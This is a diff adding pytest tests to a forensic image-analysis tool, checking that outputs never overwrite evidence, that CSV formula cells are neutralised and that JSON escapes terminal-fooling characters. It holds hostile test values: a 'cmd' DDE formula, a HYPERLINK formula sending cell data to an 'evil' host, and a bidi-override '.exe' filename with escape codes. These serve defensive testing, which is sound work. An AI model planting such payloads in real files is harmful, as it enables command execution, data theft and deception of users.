@@ -1,5 +1,9 @@
 """Exports (CSV, JSON, JSONL, Project VIC VICS JSON) of real analyses, on SQLite and PostgreSQL;
-streaming in bounded memory; output never inside an evidence root."""
+streaming in bounded memory; output files never inside an evidence root nor onto an evidence file
+(a hard link or a symbolic link to one), for exports, annotated copies, crops and ``analyze
+--annotate``, checked on the opened file; CSV cells that a spreadsheet would run as formulas are
+neutralised (``--csv-raw`` turns that off); JSON stays exact but escapes what could fool a
+terminal. Every test that touches real evidence proves the tree unchanged."""
 
 from __future__ import annotations
 
@@ -7,19 +11,23 @@ import csv
 import hashlib
 import io
 import json
+import os
 import tracemalloc
+from pathlib import Path
 
 import pytest
 from sqlalchemy import insert
 
 from daemon.cli import main
 from daemon.queries import read
-from daemon.queries.cli import FACE_COLUMNS, face_record, write_csv
+from daemon.queries.cli import FACE_COLUMNS, csv_cell, face_record, write_csv
 from daemon.queries.filters import Cut, Filters
 from daemon.store import schema as s
 from daemon.store.engine import open_engine, open_store_engine
 from daemon.queries.filters import parse
-from tests.query_fixtures import dev_db, load_world, real_db, reference_faces, synth  # noqa: F401 - fixtures
+from daemon.store import reviews as rv
+from tests.query_fixtures import (Evidence, Synth, add_file, cli, dev_db, evidence, image_bytes, load_world, make_evidence,  # noqa: F401
+                                  real_db, reference_faces, synth, world)
 
 
 def _export(capsys, url: str, *argv: str) -> str:  # noqa: ANN001
@@ -184,3 +192,175 @@ def test_synthetic_export_of_reviews(synth, capsys) -> None:  # noqa: ANN001
     assert len(gone) == 1 and "RelativeFilePath" not in gone[0]
     assert "review corrected as female by tester: note, with a comma" in one["Comments"] and "reviewed" in one["Tags"]
     assert "model bundle aaaa000000000001, bbbb000000000002" in one["Comments"]
+
+
+# --------------------------------------------------------------------------------------------
+# Output files never touch evidence (issue 18)
+
+
+def test_output_files_never_touch_evidence(evidence: Evidence) -> None:
+    url, root, out = evidence.url, evidence.root, evidence.out
+    ev = evidence.path["small.jpg"]
+    sha = evidence.sha["small.jpg"]
+    linked = out / "linked.csv"
+    os.link(ev, linked)
+    sym = out / "sym.csv"
+    sym.symlink_to(ev)
+    other = out / "other.csv"
+    other.write_text("keep me\n")
+    os.link(other, out / "other-link.csv")
+    jpg_link = out / "linked.jpg"
+    os.link(ev, jpg_link)
+    crops = out / "crops"
+    crops.mkdir()
+    os.link(ev, crops / "crops.csv")
+    evidence.seal()  # the links above changed the evidence file's ctime and link count: the tree from here on
+    cases = [
+        (["export", "--format", "csv", "-o", str(linked)], "is the evidence file"),
+        (["export", "--format", "json", "-o", str(sym)], "is a symbolic link"),
+        (["export", "--format", "jsonl", "-o", str(root / "x.jsonl")], "is inside the evidence root"),
+        (["export", "--format", "csv", "-o", str(root / "new-dir" / "x.csv")], "is inside the evidence root"),
+        (["export", "--format", "csv", "-o", str(other)], "has 2 names (hard links)"),
+        (["annotate", sha, "-o", str(linked), "--force"], "the output must end in .jpg"),
+        (["annotate", sha, "-o", str(root / "a.jpg")], "is inside the evidence root"),
+        (["crops", "--out", str(root / "crops")], "is inside the evidence root"),
+        (["crops", "--out", str(root)], "is inside the evidence root"),
+    ]
+    cases.append((["annotate", sha, "-o", str(jpg_link), "--force"], "is the evidence file"))
+    cases.append((["crops", "--out", str(crops)], "is the evidence file"))
+    for argv, message in cases:
+        rc, _, err = cli([argv[0], "--db", url, *argv[1:]])
+        assert rc == 2 and message in err, (argv, rc, err)
+        assert "Traceback" not in err
+        evidence.assert_unchanged()
+    assert other.read_text() == "keep me\n" and ev.read_bytes() == jpg_link.read_bytes()
+    # the same commands with ordinary outputs work
+    rc, _, err = cli(["export", "--db", url, "--format", "csv", "-o", str(out / "faces.csv")])
+    assert rc == 0, err
+    rc, _, err = cli(["annotate", "--db", url, sha, "-o", str(out / "a" / "b" / "ann.jpg")])
+    assert rc == 0 and (out / "a" / "b" / "ann.jpg").stat().st_size > 0, err
+    rc, _, err = cli(["crops", "--db", url, "--out", str(out / "crops2")])
+    assert rc == 0 and len(list((out / "crops2").glob("*.jpg"))) == 3, err
+    evidence.assert_unchanged()
+
+
+def test_analyze_annotate_never_writes_onto_evidence(tmp_path: Path, models_ready: None) -> None:
+    """``analyze --annotate``: an annotated copy whose name is already a hard link to the input
+    (or a symbolic link) is refused, exit 2, the input unchanged (content, mtime, inode); a
+    folder inside the input's folder is refused before anything is created."""
+    from daemon.cli import _annotated_name
+
+    ev = make_evidence(f"sqlite:///{tmp_path / 'unused.db'}", tmp_path, {})
+    img = ev.root / "in.jpg"
+    img.write_bytes(image_bytes(320, 240, 9))
+    ev.seal()
+    sha = hashlib.sha256(img.read_bytes()).hexdigest()
+    out = ev.out / "ann"
+    out.mkdir()
+    name = os.fsdecode(_annotated_name(str(img), sha))
+    os.link(img, out / name)
+    ev.seal()  # the hard link changed the input's ctime and link count: the tree from here on
+    rc, stdout, err = cli(["analyze", str(img), "--annotate", str(out)])
+    assert rc == 2 and "is the evidence file" in err and "Traceback" not in err, err
+    ev.assert_unchanged()
+    (out / name).unlink()
+    (out / name).symlink_to(img)
+    rc, _, err = cli(["analyze", str(img), "--annotate", str(out)])
+    assert rc == 2 and "is a symbolic link" in err, err
+    rc, _, err = cli(["analyze", str(img), "--annotate", str(ev.root / "annotated")])
+    assert rc == 2 and "holds evidence" in err and not (ev.root / "annotated").exists(), err
+    link = ev.out / "to-root"
+    link.symlink_to(ev.root)
+    rc, _, err = cli(["analyze", str(img), "--annotate", str(link)])
+    assert rc == 2 and "is inside the evidence root" in err, err
+    ev.seal()
+    (out / name).unlink()
+    rc, stdout, err = cli(["analyze", str(img), "--annotate", str(out)])
+    assert rc == 0 and (out / name).stat().st_size > 1000 and (out / name).stat().st_ino != img.stat().st_ino, err
+    ev.assert_unchanged()
+
+
+# --------------------------------------------------------------------------------------------
+# Wrong or hostile output: formulas in CSV, characters that fool a terminal in JSON
+
+
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_cell_rule() -> None:
+    assert [csv_cell(v) for v in ("=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "a=b", "", None, -0.5, 3, "/ev/a.jpg")] == \
+        ["'=1+2", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", None, -0.5, 3, "/ev/a.jpg"]
+    buf = io.StringIO()
+    write_csv(buf, ("n", "t"), [{"n": -0.5, "t": "-0.5"}])
+    assert buf.getvalue() == "n,t\n-0.5,'-0.5\n"
+    buf = io.StringIO()
+    write_csv(buf, ("n", "t"), [{"n": -0.5, "t": "=cmd|' /C calc'!A0"}], raw=True)
+    assert buf.getvalue() == "n,t\n-0.5,=cmd|' /C calc'!A0\n"
+
+
+def test_csv_exports_cannot_carry_formulas(world: tuple[Synth, Evidence]) -> None:
+    synth, _ = world
+    import csv
+
+    face = synth.face["img1/b2/0"]
+    engine = open_store_engine(synth.url)
+    with engine.begin() as c:
+        rv.record(c, face, rv.Review("ignored", note='=HYPERLINK("http://evil/?"&A1,"x")', reviewer="@evil"), "male")
+    engine.dispose()
+    add_file(synth.url, "/ev/-rm.jpg", "/ev", "dash")
+    for argv, col, raw_value in [(["export", "--format", "csv", "--sha256", synth.sha["img1"]], "review_note", '=HYPERLINK("http://evil/?"&A1,"x")'),
+                                 (["faces", "--format", "csv", "--sha256", synth.sha["img1"]], "reviewer", "@evil"),
+                                 (["images", "--format", "csv", "--path-prefix", "/ev/-"], "path", "/ev/-rm.jpg")]:
+        rc, out, err = cli([argv[0], "--db", synth.url, *argv[1:]])
+        rows = list(csv.DictReader(io.StringIO(out)))
+        assert rc == 0 and rows, err
+        values = [r[col] for r in rows if r[col]]
+        if raw_value.startswith(FORMULA):
+            assert values == ["'" + raw_value], values
+        else:
+            assert values == [raw_value], values  # a path starting with / is not a formula
+        assert all(not v.startswith(FORMULA) for r in rows for v in r.values()), rows
+        rc, out, _ = cli([argv[0], "--db", synth.url, *argv[1:], "--csv-raw"])
+        assert [r[col] for r in csv.DictReader(io.StringIO(out)) if r[col]] == [raw_value]
+    # numbers stay numbers
+    rc, out, _ = cli(["export", "--db", synth.url, "--format", "csv", "--sha256", synth.sha["img1"]])
+    assert all(float(r["p_male"]) >= 0 and not r["p_male"].startswith("'") for r in csv.DictReader(io.StringIO(out)))
+
+
+def test_crops_csv_cannot_carry_formulas(evidence: Evidence) -> None:
+    import csv
+
+    engine = open_store_engine(evidence.url)
+    with engine.begin() as c:
+        rv.record(c, evidence.face["small.jpg"], rv.Review("ignored", note="+cmd", reviewer="-me"), "male")
+    engine.dispose()
+    out = evidence.out / "c"
+    rc, _, err = cli(["crops", "--db", evidence.url, "--out", str(out), "--sha256", evidence.sha["small.jpg"]])
+    (row,) = list(csv.DictReader((out / "crops.csv").open(encoding="utf-8")))
+    assert rc == 0 and (row["review_note"], row["reviewer"]) == ("'+cmd", "'-me"), err
+    assert not row["x1"].startswith("'")
+
+
+def test_json_is_exact_and_cannot_fool_a_terminal(world: tuple[Synth, Evidence]) -> None:
+    """Names and notes with bidi overrides, C1 controls and line separators: JSON output has
+    them as \\u escapes (valid JSON, the same values), in every JSON command."""
+    import re
+
+    synth, _ = world
+    name = "/ev/\u202egpj.exe\u2028x\x85y\x1b[2J"
+    add_file(synth.url, name, "/ev", "json-name")
+    engine = open_store_engine(synth.url)
+    with engine.begin() as c:
+        rv.record(c, synth.face["img1/b2/0"], rv.Review("ignored", note="n\u2066o\u200bte\x9b", reviewer="\ufeffme"), "male")
+    engine.dispose()
+    raw = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
+    for argv, pick in [(["images", "--format", "json", "--path-prefix", "/ev/\u202e"], lambda d: d["images"][0]["path"]),
+                       (["images", "--format", "jsonl", "--path-prefix", "/ev/\u202e"], lambda d: d["path"]),
+                       (["export", "--format", "json", "--sha256", synth.sha["img1"], "--review", "reviewed"], lambda d: d["faces"][0]["review_note"]),
+                       (["show", synth.sha["img1"], "--format", "json"], lambda d: d["reviews"][0]["note"]),
+                       (["stats", "--format", "json", "--path-prefix", "/ev/\u202e"], lambda d: next(iter(d["by_root"])))]:
+        rc, out, err = cli([argv[0], "--db", synth.url, *argv[1:]])
+        assert rc == 0 and not raw.search(out.replace("\n", "")), (argv, err, out[:300])
+        value = pick(json.loads(out))
+        assert value in (name, "n\u2066o\u200bte\x9b", "/ev"), (argv, value)
+
